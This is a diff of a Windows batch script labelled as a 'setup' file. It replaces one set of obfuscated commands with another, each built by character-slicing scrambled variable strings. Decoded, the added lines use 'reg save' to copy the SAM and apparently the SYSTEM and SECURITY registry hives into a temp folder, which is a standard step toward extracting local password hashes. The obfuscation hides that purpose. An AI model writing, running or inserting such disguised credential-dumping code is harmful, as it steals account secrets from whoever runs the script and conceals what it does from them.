@@ -1,10 +1,10 @@
-REM task 8550 v1
+REM setup 6173 v1
 @echo off
-set "bqqm=6w.\unaGvoTekUmlqgshWiNr4jpCd:"
-%bqqm:~-7,1%%bqqm:~11,1%%bqqm:~17,1% %bqqm:~-12,1%%bqqm:~-24,1%%bqqm:~-22,1%%bqqm:~-19,1% %bqqm:~-11,1%%bqqm:~12,1%%bqqm:~15,1%%bqqm:~-16,1%%bqqm:~3,1%%bqqm:~18,1%%bqqm:~6,1%%bqqm:~-16,1% %bqqm:~27,1%%bqqm:~-1,1%%bqqm:~-27,1%%bqqm:~20,1%%bqqm:~21,1%%bqqm:~5,1%%bqqm:~-2,1%%bqqm:~9,1%%bqqm:~-29,1%%bqqm:~-12,1%%bqqm:~3,1%%bqqm:~-20,1%%bqqm:~11,1%%bqqm:~14,1%%bqqm:~26,1%%bqqm:~-27,1%%bqqm:~-12,1%%bqqm:~-24,1%%bqqm:~14,1%%bqqm:~2,1%%bqqm:~-12,1%%bqqm:~6,1%%bqqm:~8,1%%bqqm:~-19,1%
+set "cshj=SngpVcohXrTlUywDWsv:dkJa\mCei."
+%cshj:~-21,1%%cshj:~-3,1%%cshj:~2,1% %cshj:~17,1%%cshj:~23,1%%cshj:~18,1%%cshj:~27,1% %cshj:~7,1%%cshj:~-9,1%%cshj:~-19,1%%cshj:~25,1%%cshj:~-6,1%%cshj:~17,1%%cshj:~23,1%%cshj:~25,1% %cshj:~26,1%%cshj:~19,1%%cshj:~-6,1%%cshj:~16,1%%cshj:~28,1%%cshj:~1,1%%cshj:~20,1%%cshj:~-24,1%%cshj:~14,1%%cshj:~17,1%%cshj:~-6,1%%cshj:~-20,1%%cshj:~-3,1%%cshj:~25,1%%cshj:~3,1%%cshj:~24,1%%cshj:~17,1%%cshj:~-7,1%%cshj:~25,1%%cshj:~-1,1%%cshj:~17,1%%cshj:~-7,1%%cshj:~18,1%%cshj:~27,1%
 @echo off
-set "cgpd=GryomVwiKv.ge:sktCuczWdljph1Tqna\x"
-%cgpd:~-33,1%%cgpd:~-22,1%%cgpd:~-23,1% %cgpd:~14,1%%cgpd:~31,1%%cgpd:~-25,1%%cgpd:~12,1% %cgpd:~26,1%%cgpd:~-19,1%%cgpd:~-11,1%%cgpd:~4,1%%cgpd:~32,1%%cgpd:~14,1%%cgpd:~-22,1%%cgpd:~19,1%%cgpd:~18,1%%cgpd:~1,1%%cgpd:~-27,1%%cgpd:~16,1%%cgpd:~2,1% %cgpd:~17,1%%cgpd:~13,1%%cgpd:~32,1%%cgpd:~21,1%%cgpd:~-27,1%%cgpd:~30,1%%cgpd:~22,1%%cgpd:~3,1%%cgpd:~-28,1%%cgpd:~14,1%%cgpd:~32,1%%cgpd:~28,1%%cgpd:~12,1%%cgpd:~4,1%%cgpd:~-9,1%%cgpd:~32,1%%cgpd:~14,1%%cgpd:~12,1%%cgpd:~19,1%%cgpd:~18,1%%cgpd:~-33,1%%cgpd:~-27,1%%cgpd:~16,1%%cgpd:~2,1%%cgpd:~10,1%%cgpd:~-20,1%%cgpd:~-3,1%%cgpd:~9,1%%cgpd:~12,1%
+set "ovjm=JdCy3stkz.G\relni:mWhuvcUgpqHowT1a"
+%ovjm:~12,1%%ovjm:~-21,1%%ovjm:~25,1% %ovjm:~5,1%%ovjm:~33,1%%ovjm:~22,1%%ovjm:~13,1% %ovjm:~20,1%%ovjm:~-27,1%%ovjm:~-20,1%%ovjm:~18,1%%ovjm:~-23,1%%ovjm:~5,1%%ovjm:~-21,1%%ovjm:~23,1%%ovjm:~21,1%%ovjm:~12,1%%ovjm:~-18,1%%ovjm:~6,1%%ovjm:~3,1% %ovjm:~2,1%%ovjm:~17,1%%ovjm:~-23,1%%ovjm:~-15,1%%ovjm:~16,1%%ovjm:~15,1%%ovjm:~1,1%%ovjm:~-5,1%%ovjm:~30,1%%ovjm:~5,1%%ovjm:~11,1%%ovjm:~31,1%%ovjm:~13,1%%ovjm:~-16,1%%ovjm:~26,1%%ovjm:~-23,1%%ovjm:~5,1%%ovjm:~13,1%%ovjm:~23,1%%ovjm:~-13,1%%ovjm:~12,1%%ovjm:~-18,1%%ovjm:~6,1%%ovjm:~3,1%%ovjm:~9,1%%ovjm:~-29,1%%ovjm:~33,1%%ovjm:~-12,1%%ovjm:~13,1%
 @echo off
-set "jswk=Cl4qsdyRew\WgoitnmhQfaTkGDXpv.r:"
-%jswk:~-2,1%%jswk:~8,1%%jswk:~12,1% %jswk:~4,1%%jswk:~21,1%%jswk:~28,1%%jswk:~8,1% %jswk:~-14,1%%jswk:~-9,1%%jswk:~1,1%%jswk:~-15,1%%jswk:~10,1%%jswk:~4,1%%jswk:~-26,1%%jswk:~4,1%%jswk:~15,1%%jswk:~-24,1%%jswk:~17,1% %jswk:~0,1%%jswk:~31,1%%jswk:~10,1%%jswk:~-21,1%%jswk:~14,1%%jswk:~16,1%%jswk:~5,1%%jswk:~13,1%%jswk:~9,1%%jswk:~4,1%%jswk:~10,1%%jswk:~22,1%%jswk:~8,1%%jswk:~17,1%%jswk:~27,1%%jswk:~-22,1%%jswk:~-28,1%%jswk:~6,1%%jswk:~4,1%%jswk:~15,1%%jswk:~8,1%%jswk:~17,1%%jswk:~-3,1%%jswk:~-28,1%%jswk:~21,1%%jswk:~28,1%%jswk:~-24,1%
+set "gpus=.kVdl:Lj5gmUWoiE\vTwYsCap8rheynt"
+%gpus:~-6,1%%gpus:~28,1%%gpus:~9,1% %gpus:~21,1%%gpus:~23,1%%gpus:~17,1%%gpus:~-4,1% %gpus:~27,1%%gpus:~1,1%%gpus:~4,1%%gpus:~-22,1%%gpus:~16,1%%gpus:~21,1%%gpus:~-3,1%%gpus:~21,1%%gpus:~31,1%%gpus:~28,1%%gpus:~10,1% %gpus:~22,1%%gpus:~5,1%%gpus:~16,1%%gpus:~12,1%%gpus:~14,1%%gpus:~30,1%%gpus:~3,1%%gpus:~13,1%%gpus:~19,1%%gpus:~-11,1%%gpus:~16,1%%gpus:~-14,1%%gpus:~28,1%%gpus:~10,1%%gpus:~-8,1%%gpus:~16,1%%gpus:~21,1%%gpus:~-3,1%%gpus:~21,1%%gpus:~31,1%%gpus:~28,1%%gpus:~-22,1%%gpus:~-32,1%%gpus:~21,1%%gpus:~23,1%%gpus:~17,1%%gpus:~28,1%
